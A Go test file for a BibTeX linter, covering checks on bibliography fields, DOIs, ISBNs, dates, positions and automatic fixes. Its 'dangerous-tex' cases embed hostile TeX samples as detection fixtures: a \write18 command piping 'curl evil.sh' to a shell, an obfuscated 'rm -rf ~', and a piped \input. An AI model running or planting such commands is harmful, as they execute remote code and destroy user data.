package lint

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bibshelf/bibshelf/bib"
	"github.com/bibshelf/bibshelf/bib/bibtest"
	"github.com/google/go-cmp/cmp"
)

// brief is a finding as the table tests compare it: check, field and fix.
func brief(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		s := string(f.Check)
		if f.Field != "" {
			s += " " + f.Field
		}
		if f.Fix != "" {
			s += " => " + f.Fix
		}
		out = append(out, s)
	}
	return out
}

// TestChecks holds each check to real entries: the comment before each case names the corpus
// file (../shared/corpus) and line it was taken from; cases made for a test say so.
func TestChecks(t *testing.T) {
	for _, tc := range []struct {
		name string
		src  string
		opts Options
		want []string
	}{
		// biber-etc/etc/papers.bib:9410: BibTeX's @techreport needs an institution.
		{"missing institution", "@techreport{KarpinskiWZ97,\nauthor = {Marek Karpinski and J\\\"{u}rgen Wirtgen and Alex Zelikovsky},\ntitle = {An approximation algorithm for the bandwidth problem on dense graphs},\nnumber = {TR97-017},\ntype = {Electronic Colloquium on Computational Complexity Report},\nyear = 1997}",
			Options{}, []string{"missing-field"}},
		// The same for biblatex, whose @report (techreport's alias) needs an institution too
		// but takes the type field as given.
		{"missing institution, biblatex", "@techreport{KarpinskiWZ97,\nauthor = {Marek Karpinski and J\\\"{u}rgen Wirtgen and Alex Zelikovsky},\ntitle = {An approximation algorithm for the bandwidth problem on dense graphs},\nnumber = {TR97-017},\ntype = {Electronic Colloquium on Computational Complexity Report},\nyear = 1997}",
			Options{BibLaTeX: true}, []string{"missing-field"}},
		// biber-tdata/t/tdata/dateformats.bib:5 (L1): journaltitle is biblatex's journal, and
		// BibTeX's styles want journal; biblatex reads it.
		{"journaltitle, BibTeX", "@ARTICLE{L1,\n  AUTHOR = {John Doe},\n  JOURNALTITLE = {Journal},\n  TITLE = {Title 1},\n  YEAR = {1995}}",
			Options{}, []string{"missing-field"}},
		{"journaltitle, biblatex", "@ARTICLE{L1,\n  AUTHOR = {John Doe},\n  JOURNALTITLE = {Journal},\n  TITLE = {Title 1},\n  YEAR = {1995}}",
			Options{BibLaTeX: true}, nil},
		// beebe-tex-bibs/font.bib:753 (Wallin:1905:SID): a DOI written as its link.
		{"doi as a link", "@Article{Wallin:1905:SID,\n  author = \"C. J. Wallin\",\n  title = \"Type\",\n  journal = \"Scientific American\",\n  year = \"1905\",\n  DOI = \"https://doi.org/10.1038/scientificamerican10211905-315a\",\n  ISSN = \"0036-8733 (print), 1946-7087 (electronic)\",\n}",
			Options{}, []string{`doi doi => "10.1038/scientificamerican10211905-315a"`}},
		// A doi: label, written so in many exports.
		{"doi: label", "@misc{d, title = {T}, doi = {doi:10.1145/2494266.2494275}}", Options{}, []string{"doi doi => {10.1145/2494266.2494275}"}},
		// beebe-tex-bibs/typeset.bib:22862: no DOI at all behind the link.
		{"not a DOI", "@Article{x, author = \"A\", title = \"T\", journal = \"J\", year = \"1988\",\n  DOI = \"https://doi.org/10.1145.62523\"}", Options{}, []string{"doi doi"}},
		{"short DOI", "@misc{d, doi = {10/bxxc}}", Options{}, nil},
		// beebe-tex-bibs/font.bib:5223 (Sakamoto:1985:CGHb): the hardback's ISBN fails its
		// checksum, the paperback's passes.
		{"isbn", "@Book{Sakamoto:1985:CGHb, editor = \"M. Sakamoto\", title = \"T\", publisher = \"IEEE\", year = \"1985\",\n  ISBN = \"0-8186-0621-5 (paperback), 0-8186-8461-9 (hardback)\"}", Options{}, []string{"isbn isbn"}},
		{"isbn-13", "@Book{b, editor = \"E\", title = \"T\", publisher = \"P\", year = \"2007\", isbn = {978-0-19-953592-7}}", Options{}, nil},
		// beebe-tex-bibs/font.bib:3483 (Chung:1984:CFD), and font.bib:754's two good ISSNs.
		{"issn", "@Article{Chung:1984:CFD, author = \"A\", title = \"T\", journal = \"J\", year = \"1984\", ISSN = \"8264-5521\"}", Options{}, []string{"issn issn"}},
		{"issns", "@Article{a, author = \"A\", title = \"T\", journal = \"J\", year = \"1905\", ISSN = \"0036-8733 (print), 1946-7087 (electronic)\"}", Options{}, nil},
		// beebe-tex-bibs/font.bib:21534 (Adobe:19xx:FF).
		{"year", "@Book{Adobe:19xx:FF, author = \"Adobe\", title = \"Font and function\", publisher = \"Adobe Systems Inc.\", year = \"19xx\"}", Options{}, []string{"year year"}},
		// biber-etc/etc/papers.bib:14 (AardalHLT02), with spaces kept; its file defines or.
		{"pages", "@article{AardalHLT02, author = {K. Aardal}, title = {T}, journal = or, volume = 50, year = 2003, number = 6, pages = {968 - 980}}",
			Options{}, []string{"syntax", "pages pages => {968 -- 980}"}},
		// beebe-tex-bibs/font.bib:15724: hyphens inside page numbers, the range's --.
		{"pages with hyphens", "@InProceedings{p, author = \"A\", title = \"T\", booktitle = \"B\", year = \"1992\", pages = \"V-1--V-4\"}", Options{}, nil},
		// beebe-tex-bibs/texbook1.bib:1858 (Darling:NAMS-40-2-150); its file defines j-NAMS.
		{"capitals", "@Article{Darling:NAMS-40-2-150,\n  author = \"R. W. R. Darling\",\n  title = \"FrameMaker 3.0\",\n  journal = j-NAMS,\n  year = \"1993\"}", Options{}, []string{"unprotected-caps title", "syntax"}},
		// assets/sample-library.bib's style: capitals braced.
		{"capitals braced", "@article{a, author = {A}, title = {{DNA} and {GPT}-4 in {LaTeX}}, journal = {J}, year = 2020}", Options{}, nil},
		// Words whose capitals each start a part between hyphens are the style's to change.
		{"hyphenated title case", "@article{a, author = {A}, title = {Non-Linear Dynamics of GPT-4}, journal = {J}, year = 2020}", Options{}, []string{"unprotected-caps title"}},
		// biber-etc/etc/papers.bib:10411 (LawlerS85) and 10420 (LawlerLRS93).
		{"et al.", "@inproceedings{LawlerS85,\nauthor = {Eugene L. Lawler and P. J. Slater},\ntitle = {A Linear Time Algorithm},\nbooktitle = {Proc. Graph Theory},\npages = {501--506},\neditor = {Y. Alavi et al.},\nyear = 1985\n}",
			Options{}, []string{"et-al editor => {Y. Alavi and others}"}},
		{"et al", "@incollection{LawlerLRS93, author = {E. Lawler}, title = {T}, booktitle = {B}, publisher = {P}, editor = {S.C. Graves et al}, year = 1993}",
			Options{}, []string{"et-al editor => {S.C. Graves and others}"}},
		// citation-js/test/mapping/biblatex-input.bib:321 (cdli:Born2019).
		{"et al. after a comma", "@misc{cdli:Born2019, Author = {Born, L. et al.}, Title = {Sign Clustering}, year = 2019}",
			Options{}, []string{"et-al author => {Born, L. and others}"}},
		// biber-etc/etc/papers.bib:7121 (Gerards95): braced, "et al." is part of one name.
		{"et al. braced", "@incollection{Gerards95, editor = {{M. O. Ball et al.}}, title = {T}, booktitle = {B}, publisher = {P}, author = {A}, year = 1995}", Options{}, nil},
		// bibtex-tidy/test/bibliographies/autocomplete-bibtex/cross_ref.bib:1 (Peters_2004), whose
		// CrossRef a style lowercases too.
		{"url is the DOI", "@article{Peters_2004, title={Bibtex from CrossRef}, ISSN={0263-9475}, url={http://dx.doi.org/10.2307/25564177}, DOI={10.2307/25564177}, number={109}, journal={Circa}, publisher={JSTOR}, author={Peters, Robert}, year={2004}, pages={24}}",
			Options{}, []string{"unprotected-caps title", "url-is-doi url"}},
		// biber-tdata/t/tdata/datalists.bib:35 (K5), for a BibTeX without UTF-8; and with UTF-8.
		{"non-ASCII", "@BOOK{K5,\n  AUTHOR = {Slippery Zånny},\n  TITLE = {Silent Slippers},\n  PUBLISHER = {Footwear Folios},\n  YEAR = {1932},\n  url = {https://example.org/Zånny}\n}",
			Options{ASCII: true}, []string{`non-ascii author => {Slippery Z{\aa}nny}`}},
		{"non-ASCII, UTF-8", "@BOOK{K5,\n  AUTHOR = {Slippery Zånny},\n  TITLE = {Silent Slippers},\n  PUBLISHER = {Footwear Folios},\n  YEAR = {1932}\n}", Options{}, nil},
		// beebe-tex-bibs/epodd.bib:88: \input and \def in a @preamble, and \special in an
		// abstract (epodd.bib:4184, Clark:EPODD-7-3-147).
		{"preamble", "@Preamble{\n    \"\\input bibnames.sty \" #\n    \"\\def \\PIC {{\\sc pic}}\"}", Options{}, []string{"dangerous-tex @preamble", "dangerous-tex @preamble"}},
		{"special", "@misc{Clark:EPODD-7-3-147, title = {T}, abstract = {inserted with \\special commands}}", Options{}, []string{"dangerous-tex abstract"}},
		// Made for the test: what a hostile .bib holds. \write18 in a note, its letters spelt
		// with ^^ notation in a title, \csname building it, \immediate in a repeated field.
		{"write18", "@misc{x, note = {\\immediate\\write18{curl evil.sh | sh}}}", Options{}, []string{"dangerous-tex note", "dangerous-tex note"}},
		{"^^", "@misc{x, title = {^^5cwrite18{rm -rf ~}}}", Options{}, []string{"dangerous-tex title"}},
		{"csname", "@misc{x, title = {\\csname wr\\endcsname}}", Options{}, []string{"dangerous-tex title"}},
		{"repeated field", "@misc{x, note = {n}, note = {\\input|\"ls\"}}", Options{}, []string{"syntax", "dangerous-tex note"}},
		{"harmless TeX", "@misc{x, title = {\\LaTeX\\ and \\\\def and \\definecolor and \\includegraphics}}", Options{}, nil},
		// biber-tdata/t/tdata/full-bbl.bib: a key repeated, and one differing in case.
		{"keys", "@BOOK{F1, AUTHOR = {John Doe}, TITLE = {The Fullness of Times}, YEAR = {1995}, publisher = {P}}\n" +
			"@MISC{F1, AUTHOR = {Frank Frill}, TITLE = {Dresses for Gentlemen}, YEAR = {1997}}\n" +
			"@BOOK{f1, AUTHOR = {Someone Else}, TITLE = {The Case of the Duplicitous Duplicate}, YEAR = {1996}, publisher = {P}}",
			Options{}, []string{"duplicate-key", "key-case"}},
		// Keys that differ in a non-ASCII letter's case are two keys for BibTeX, which folds
		// ASCII letters only.
		{"non-ASCII case", "@misc{Ärzte2020, title = {T}}\n@misc{ärzte2020, title = {U}}", Options{}, nil},
		// Made for the test from assets/sample-library.bib's vinyals2015pointer: a title whose
		// brace is never closed swallows the rest of the file.
		{"unbalanced", "@inproceedings{vinyals2015pointer,\n  title = {Pointer {N}etworks,\n  year = {2015}\n}\n", Options{}, []string{"unbalanced", "syntax"}},
		// A crossref parent gives the fields the child lacks (beebe-tex-bibs/font.bib's
		// proceedings, made smaller: like font.bib's, the parent has a booktitle beside its title).
		{"crossref", "@InProceedings{c, author = \"A\", title = \"T\", crossref = \"p\", pages = \"1--2\"}\n@Proceedings{p, title = \"Proc\", booktitle = \"Proc\", year = \"1986\", publisher = \"IEEE\"}", Options{}, nil},
		// BibTeX gives a child its parent's fields of the same name only: the parent's title is
		// not the child's booktitle. Biber's default inheritance makes it so.
		{"crossref title", "@InProceedings{c, author = \"A\", title = \"T\", crossref = \"P\"}\n@Proceedings{p, title = \"Proc\", year = \"1986\"}", Options{}, []string{"missing-field"}},
		{"crossref title biblatex", "@InProceedings{c, author = \"A\", title = \"T\", crossref = \"p\"}\n@Proceedings{p, title = \"Proc\", year = \"1986\"}", Options{BibLaTeX: true}, nil},
		// An xdata parent gives its fields to biblatex; BibTeX reads no xdata.
		{"xdata biblatex", "@Article{c, author = {A}, title = {T}, xdata = {j, y}}\n@XData{j, journaltitle = {J}}\n@XData{y, year = {2020}}", Options{BibLaTeX: true}, nil},
		{"xdata bibtex", "@Article{c, author = {A}, title = {T}, xdata = {j}}\n@XData{j, journal = {J}, year = {2020}}", Options{}, []string{"missing-field", "missing-field"}},
		{"xdata unknown bibtex", "@Article{c, author = {A}, title = {T}, xdata = {j}}", Options{}, []string{"missing-field", "missing-field"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := bib.Parse("t.bib", []byte(tc.src))
			got := File(f, tc.opts)
			if diff := cmp.Diff(tc.want, brief(got)); diff != "" {
				t.Errorf("(-want +got):\n%s\n%v", diff, got)
			}
		})
	}
}

// TestDates holds the date check to biber's own test file of dates
// (biber-tdata/t/tdata/dateformats.bib), whose comments say which entries are wrong: those have
// a date finding, and the others none. Y1700 (y3) is read as biber's ISO 8601-2 reading takes
// it: a year written with Y has five digits or more.
func TestDates(t *testing.T) {
	dir := bibtest.CorpusDir(t)
	src, err := os.ReadFile(filepath.Join(dir, "biber-tdata/t/tdata/dateformats.bib"))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, fd := range File(bib.Parse("dateformats.bib", src), Options{BibLaTeX: true}) {
		if fd.Check == Date {
			got = append(got, fd.Key+" "+fd.Field)
		}
	}
	want := []string{"L1 origdate", "L1 urldate", "L2 origdate", "L3 urldate", "L4 date", "L5 date", "L6 date", "L7 eventdate", "y3 date"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for _, tc := range []struct {
		date string
		ok   bool
	}{
		{"2020", true}, {"2020-02-29", true}, {"2019-02-29", false}, {"1900-02-29", false}, {"2000-02-29", true},
		{"2004-22", true}, {"2004-22-01", false}, {"2020-06-01T12:00:00+01", true}, {"2020T12:00:00", false},
		{"1999-XX-01", false}, {"19XX-01", false}, {"/", false}, {"../..", false}, {"2001/2002/2003", false},
		{"-0044-03-15", true}, {"Y-170000002", true}, {"1987%", true}, {"20", false}, {"१९८७-०१-१५", true},
	} {
		if why := checkDate(tc.date); (why == "") != tc.ok {
			t.Errorf("checkDate(%q) = %q, want ok %v", tc.date, why, tc.ok)
		}
	}
}

// TestPositions checks that findings name the line and column of what they found.
func TestPositions(t *testing.T) {
	src := "% a comment\n@article{k, title = {The DNA},\n  pages = {1-2}, author = {A et al.},\n  journal = {J}, year = {2020}}\n"
	f := bib.Parse("p.bib", []byte(src))
	var got []string
	for _, fd := range File(f, Options{}) {
		got = append(got, fmt.Sprintf("%d:%d %s", fd.Line, fd.Col, fd.Check))
	}
	want := []string{"2:26 unprotected-caps", "3:13 pages", "3:30 et-al"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	// An entry with no source (made in the window) has no column.
	e := &bib.Entry{Type: "misc", Key: "m", Fields: []bib.Field{{Name: "pages", Raw: "{3-4}", Value: "3-4"}}}
	if fs := Entry(e, Options{}); len(fs) != 1 || fs[0].Col != 0 || fs[0].Fix != "{3--4}" {
		t.Errorf("Entry without source = %v", fs)
	}
	if s := File(f, Options{})[1].String(); s != `p.bib:3:13: warning: k: pages "1-2": a page range takes -- (an en dash), not - (pages)` {
		t.Errorf("String = %q", s)
	}
}

// TestPositionsLongEntry lints one entry of a megabyte with a finding on every line: each
// finding's position is found from the entry's line starts, counted once, so the time grows with
// the entry's length (it took minutes when each finding walked the entry from its first line).
func TestPositionsLongEntry(t *testing.T) {
	var b strings.Builder
	b.WriteString("@misc{long,\n")
	n := 0
	for b.Len() < 1<<20 {
		b.WriteString("  note = {\\def},\n")
		n++
	}
	b.WriteString("}\n")
	f := bib.Parse("long.bib", []byte(b.String()))
	start := time.Now()
	fs := File(f, Options{})
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("File took %v for a 1 MB entry", d)
	}
	var tex []Finding
	for _, fd := range fs {
		if fd.Check == DangerousTeX {
			tex = append(tex, fd)
		}
	}
	if len(tex) != n {
		t.Fatalf("%d dangerous-tex findings, want %d", len(tex), n)
	}
	if last := tex[n-1]; last.Line != n+1 || last.Col != 11 {
		t.Errorf("last finding at %d:%d, want %d:11", last.Line, last.Col, n+1)
	}
}

// TestFixFile applies the fixes of a file and checks that only the fixed values changed.
func TestFixFile(t *testing.T) {
	src := "% kept\n@article{a,\n  Author  = {Y. Alavi et al.},\n  pages   = \"12-34\",\n  DOI     = {https://doi.org/10.1000/xyz},\n  title = {T}, journal = {J}, year = 2001}\n\njunk between\n@misc{b, pages = {5-6}, pages = {7-8}}\n"
	f := bib.Parse("f.bib", []byte(src))
	fs := File(f, Options{})
	text, applied, err := FixFile(f, []byte(src), fs)
	if err != nil {
		t.Fatal(err)
	}
	want := "% kept\n@article{a,\n  Author  = {Y. Alavi and others},\n  pages   = \"12--34\",\n  DOI     = {10.1000/xyz},\n  title = {T}, journal = {J}, year = 2001}\n\njunk between\n@misc{b, pages = {5--6}, pages = {7-8}}\n"
	if diff := cmp.Diff(want, string(text)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if len(applied) != 4 {
		t.Errorf("applied %v", brief(applied))
	}
	again := bib.Parse("f.bib", text)
	if left := brief(File(again, Options{})); strings.Contains(strings.Join(left, " "), "=>") {
		t.Errorf("fixes left after fixing: %v", left)
	}
	// Nothing to fix: the same bytes.
	text, applied, err = FixFile(again, text, File(again, Options{}))
	if err != nil || string(text) != want || len(applied) != 0 {
		t.Errorf("a second fix changed the file: %v %v", err, applied)
	}
	// A file read from Windows-1252 is not rewritten.
	latin := []byte("@misc{a, title = {Caf\xe9}, pages = {1-2}}\n")
	lf := bib.Parse("l.bib", latin)
	if _, _, err := FixFile(lf, latin, File(lf, Options{})); err != ErrNotVerbatim {
		t.Errorf("FixFile of Windows-1252 = %v, want ErrNotVerbatim", err)
	}
}
